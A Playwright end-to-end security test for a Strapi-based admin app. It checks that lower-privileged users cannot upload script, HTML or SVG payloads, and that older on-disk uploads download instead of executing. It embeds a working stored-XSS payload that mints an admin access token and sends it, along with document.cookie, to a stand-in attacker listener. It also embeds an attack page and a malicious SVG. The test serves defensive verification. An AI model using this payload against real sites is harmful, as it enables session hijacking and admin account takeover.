/**
 * The review's attack, in Chromium: an Editor or an Author uploads `steal.js` and `page.html`
 * (`<script src="/uploads/steal_<hash>.js">`) hoping a signed-in Super Admin opens the page and hands
 * over their session. Both uploads are refused. Files of that kind already on disk (an install older
 * than the upload rules) run nothing either: the Super Admin's browser downloads the page instead of
 * rendering it, a script tag pointing at the upload is blocked, and no token leaves. Images and PDF
 * still display when opened directly.
 */
import crypto from 'crypto';
import fs from 'fs';
import http from 'http';
import path from 'path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { adminApi, createFirstAdmin, launchBrowser, screenshot, startApp, type E2eApp } from './helpers';
import { ROOT } from '../../scripts/lib/server';
import { pdfBytes, pngBytes } from '../helpers/file-samples';

const ADMIN = { email: 'ada@rouge-hexagone.test', password: 'Adm1n-Passw0rd!' };
const EDITOR = { email: 'eddie@rouge-hexagone.test', password: 'Ed1tor-Passw0rd!' };
const AUTHOR = { email: 'aude@rouge-hexagone.test', password: 'Auth0r-Passw0rd!' };
const UPLOADS = path.join(ROOT, 'public', 'uploads');
const HASH = crypto.randomBytes(5).toString('hex');
const STEAL = `steal_${HASH}.js`;
const PAGE = `page_${HASH}.html`;
const LOGO = `logo_${HASH}.svg`;

let app: E2eApp;
let browser: Browser;
/** A listener on loopback standing for the attacker's server: every hit is a leak. */
let beacon: http.Server;
let beaconUrl: string;
const beaconHits: string[] = [];
const placedOnDisk: string[] = [];
const storedUrls: string[] = [];

/** The attacker's script: takes a fresh admin token with the refresh cookie and sends it away. */
const stealScript = (): string => `
console.log('steal ran');
fetch('/admin/access-token?via=steal', { method: 'POST', credentials: 'include' })
  .then((res) => res.text())
  .then((token) => fetch('${beaconUrl}/token?value=' + encodeURIComponent(token), { mode: 'no-cors' }));
new Image().src = '${beaconUrl}/cookie?value=' + encodeURIComponent(document.cookie);
alert('steal ran');
`;

/** The attacker's page: an inline script (the same payload) and the uploaded one. */
const attackPage = (scriptUrl: string): string => `<!doctype html>
<html><head><title>Brochure</title></head><body>
<h1>Brochure</h1>
<script>${stealScript()}</script>
<script src="${scriptUrl}"></script>
</body></html>`;

const attackSvg = (): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>${stealScript()}</script></svg>`;

beforeAll(async () => {
  beacon = http.createServer((req, res) => {
    beaconHits.push(req.url ?? '');
    res.setHeader('Content-Type', req.url?.startsWith('/control') ? 'text/html' : 'text/plain');
    // The control page: the same attack served as a page of another origin, to show it does run there.
    res.end(req.url?.startsWith('/control') ? attackPage('/none.js') : 'ok');
  });
  await new Promise<void>((resolve) => beacon.listen(0, '127.0.0.1', resolve));
  const address = beacon.address();
  if (!address || typeof address === 'string') throw new Error('beacon has no port');
  beaconUrl = `http://127.0.0.1:${address.port}`;

  app = await startApp();
  createFirstAdmin(app.env, ADMIN);
  browser = await launchBrowser();
  const api = adminApi(app.url);
  const token = await api.login(ADMIN.email, ADMIN.password);
  await api.createUser(token, { ...EDITOR, roleCode: 'strapi-editor' });
  await api.createUser(token, { ...AUTHOR, roleCode: 'strapi-author' });
  // Starting the app and `admin:create-user` each boot Strapi: minutes on a loaded machine.
}, 600000);

afterAll(async () => {
  for (const name of placedOnDisk) fs.rmSync(path.join(UPLOADS, name), { force: true });
  for (const url of storedUrls) fs.rmSync(path.join(UPLOADS, path.basename(url)), { force: true });
  await browser?.close();
  await app?.stop();
  await new Promise<void>((resolve) => beacon?.close(() => resolve()));
});

const upload = async (token: string, name: string, bytes: Buffer | string, type: string) => {
  const form = new FormData();
  form.append('files', new Blob([bytes], { type }), name);
  const res = await fetch(`${app.url}/upload`, {
    method: 'POST',
    headers: { Authorization: `Bearer ${token}` },
    body: form,
  });
  return { status: res.status, body: await res.json() };
};

const uploadedFiles = (): string[] => fs.readdirSync(UPLOADS);

/** Everything the attack could show in the browser: console lines, dialogs, requests it made. */
const watch = (context: BrowserContext, page: Page) => {
  const seen = { console: [] as string[], dialogs: [] as string[], requests: [] as string[] };
  page.on('console', (message) => seen.console.push(message.text()));
  page.on('dialog', (dialog) => {
    seen.dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  context.on('request', (request) => seen.requests.push(request.url()));
  return seen;
};

const logIn = async (page: Page, user: { email: string; password: string }) => {
  await page.goto(`${app.url}/admin/auth/login`);
  await page.fill('input[name="email"]', user.email);
  await page.fill('input[name="password"]', user.password);
  await page.click('button[type="submit"]');
  await page.waitForURL((url) => !url.pathname.includes('/auth/login'), { timeout: 60000 });
};

describe.each([
  ['Editor', EDITOR],
  ['Author', AUTHOR],
])('as %s', (_role, user) => {
  it('uploading steal.js and page.html is refused with 400 and stores nothing', async () => {
    const token = await adminApi(app.url).login(user.email, user.password);
    const before = uploadedFiles();
    const script = await upload(token, 'steal.js', stealScript(), 'application/javascript');
    const page = await upload(token, 'page.html', attackPage('/uploads/steal_0123456789.js'), 'text/html');
    // The same page disguised as an image is what it is: HTML.
    const disguised = await upload(token, 'page.png', attackPage('/uploads/steal_0123456789.js'), 'image/png');
    for (const [name, answer] of [
      ['steal.js', script],
      ['page.html', page],
      ['page.png', disguised],
    ] as const) {
      expect(answer.status).toBe(400);
      expect(answer.body).toMatchObject({
        data: null,
        error: { status: 400, name: 'ValidationError', message: expect.stringContaining(`"${name}"`) as unknown },
      });
    }
    expect(uploadedFiles()).toEqual(before);
    const adminToken = await adminApi(app.url).login(ADMIN.email, ADMIN.password);
    const library = await adminApi(app.url).call('GET', '/upload/files?pageSize=100', adminToken);
    const names = ((library.body as { results?: { name: string }[] }).results ?? []).map((file) => file.name);
    expect(names.filter((name) => /steal|page/.test(name))).toEqual([]);
  });
});

describe.each([
  ['Editor', EDITOR],
  ['Author', AUTHOR],
])('the %s in the media library', (role, user) => {
  it('adding page.html shows the refusal naming the file and the allowed types; nothing is stored', async () => {
    const context = await browser.newContext({ viewport: { width: 1280, height: 900 }, locale: 'en-GB' });
    const page = await context.newPage();
    await logIn(page, user);
    await page.goto(`${app.url}/admin/plugins/upload`);
    await page.getByRole('heading', { name: /Home \(0 items\)/ }).waitFor();
    // What "Add assets" opens the system file picker for.
    await page
      .locator('input[type="file"]')
      .first()
      .setInputFiles({
        name: 'page.html',
        mimeType: 'text/html',
        buffer: Buffer.from(attackPage('/uploads/steal_0123456789.js')),
      });
    await page
      .getByText(/"page\.html" was refused: its content is not one of the allowed types \(image\/png, /)
      .first()
      .waitFor();
    await screenshot(page, `upload-refused-in-media-library-${role.toLowerCase()}`);
    await context.close();
    expect(uploadedFiles().filter((name) => name.startsWith('page'))).toEqual([]);
  });
});

describe('a signed-in Super Admin', () => {
  let context: BrowserContext;
  let page: Page;
  let seen: ReturnType<typeof watch>;

  beforeAll(async () => {
    context = await browser.newContext({
      viewport: { width: 1280, height: 900 },
      locale: 'en-GB',
      acceptDownloads: true,
    });
    page = await context.newPage();
    seen = watch(context, page);
    await logIn(page, ADMIN);
  });

  afterAll(async () => {
    await context?.close();
  });

  it('the control: the same page served by another origin without these rules does run', async () => {
    const control = await browser.newPage();
    const dialogs: string[] = [];
    control.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    // What the attacker waits for: their listener receiving the victim's cookies.
    const cookieHit = new Promise<void>((resolve) => {
      beacon.on('request', (req: http.IncomingMessage) => {
        if (req.url?.startsWith('/cookie')) resolve();
      });
    });
    await control.goto(`${beaconUrl}/control`, { waitUntil: 'commit' });
    await cookieHit;
    await control.close();
    expect(dialogs.length).toBeGreaterThan(0);
    beaconHits.length = 0;
  });

  it('opening page_<hash>.html, left on disk by an older install, downloads it: no script runs, no token leaves', async () => {
    fs.writeFileSync(path.join(UPLOADS, STEAL), stealScript());
    fs.writeFileSync(path.join(UPLOADS, PAGE), attackPage(`/uploads/${STEAL}`));
    fs.writeFileSync(path.join(UPLOADS, LOGO), attackSvg());
    placedOnDisk.push(STEAL, PAGE, LOGO);

    for (const name of [PAGE, LOGO]) {
      // The person clicks the link and gets a file in their downloads, not a page.
      const download = page.waitForEvent('download');
      await page.goto(`${app.url}/uploads/${name}`).catch((error: Error) => {
        expect(error.message).toContain('Download is starting');
      });
      expect((await download).suggestedFilename()).toBe(name);
    }

    // A script tag on the admin's own origin pointing at the upload (as page.html has): the browser
    // refuses to run an application/octet-stream under nosniff, and says so with the error event.
    await page.goto(`${app.url}/admin`);
    await page
      .getByRole('link', { name: /Content Manager/i })
      .first()
      .waitFor();
    const outcome: unknown = await page.evaluate(`new Promise((resolve) => {
      const script = document.createElement('script');
      script.src = '/uploads/${STEAL}';
      script.onload = () => resolve('load');
      script.onerror = () => resolve('error');
      document.head.appendChild(script);
    })`);
    expect(outcome).toBe('error');
    await screenshot(page, 'upload-attack-admin-after');

    expect(seen.dialogs).toEqual([]);
    expect(seen.console.filter((line) => line.includes('steal ran'))).toEqual([]);
    expect(seen.requests.filter((url) => url.includes('via=steal') || url.startsWith(beaconUrl))).toEqual([]);
    expect(beaconHits).toEqual([]);
  });

  it('a PNG and a PDF uploaded by the Editor display when opened directly', async () => {
    const token = await adminApi(app.url).login(EDITOR.email, EDITOR.password);
    const png = await upload(token, 'visuel.png', pngBytes(120, 80), 'image/png');
    const pdf = await upload(token, 'brochure.pdf', pdfBytes(), 'application/pdf');
    expect([png.status, pdf.status]).toEqual([201, 201]);
    const [pngFile] = png.body as { url: string }[];
    const [pdfFile] = pdf.body as { url: string }[];
    storedUrls.push(pngFile.url, pdfFile.url);

    const image = await page.goto(`${app.url}${pngFile.url}`);
    expect(image?.headers()['content-security-policy']).toBe("default-src 'none'; sandbox");
    const size: unknown = await page.evaluate(
      'document.images[0].decode().then(() => ({ width: document.images[0].naturalWidth, height: document.images[0].naturalHeight }))'
    );
    expect(size).toEqual({ width: 120, height: 80 });
    await screenshot(page, 'upload-png-opened');

    // The headers the viewer gets (Chromium hands a PDF's response to its viewer, out of Playwright's sight).
    const headers = (await fetch(`${app.url}${pdfFile.url}`)).headers;
    expect(headers.get('content-type')).toBe('application/pdf');
    expect(headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
    expect(headers.get('x-content-type-options')).toBe('nosniff');
    // Chromium's PDF viewer (its own extension frame) shows the document's name once it has loaded it.
    const viewerOpened = page.waitForEvent('framenavigated', {
      predicate: (frame) => frame.url().startsWith('chrome-extension://'),
    });
    await page.goto(`${app.url}${pdfFile.url}`);
    const viewer = await viewerOpened;
    await viewer
      .locator('#title')
      .filter({ hasText: path.basename(pdfFile.url) })
      .waitFor();
    await screenshot(page, 'upload-pdf-opened');
  });
});
